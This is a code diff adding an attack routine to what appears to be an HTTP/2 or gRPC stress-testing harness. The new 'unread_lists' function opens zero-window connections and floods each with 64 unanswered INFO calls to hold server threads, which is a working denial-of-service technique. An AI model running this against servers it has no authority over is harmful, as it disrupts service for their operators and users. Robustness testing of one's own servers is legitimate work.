@@ -8,6 +8,7 @@ from contextlib import ExitStack
 from http2 import (
     DETECT,
     HEALTH,
+    INFO,
     REFLECTION,
     STREAM,
     WATCH,
@@ -51,6 +52,32 @@ def _send_all(target: Target, connection: Connection, stream: int, data: bytes) 
         for kind, flags, of, _ in connection.receive(0.01):
             if of == stream and is_end(kind, flags):
                 return  # refused
+
+
+@attack("calls")
+def unread_lists(target: Target) -> Tally:
+    """Questions about the server whose answers find a window of 0: each held a thread"""
+    tally: Tally = Tally()
+    with ExitStack() as stack:
+        for survived in rounds(target, tally):
+            if tally["rounds"] > 16:
+                break
+            with survived:
+                tally["calls"] += ask_and_take_nothing(
+                    stack.enter_context(target.connect(NO_WINDOW))
+                )
+        _wait(target)
+    return tally
+
+
+def ask_and_take_nothing(connection: Connection) -> int:
+    """As many calls as a connection may have at once; returns how many those are."""
+    calls = 64
+    for _ in range(calls):
+        stream = connection.next_stream()
+        connection.send(call(INFO, stream), frame(Kind.DATA, 1, stream, message()))
+    list(connection.receive(0.01))
+    return calls
 
 
 @attack("calls")
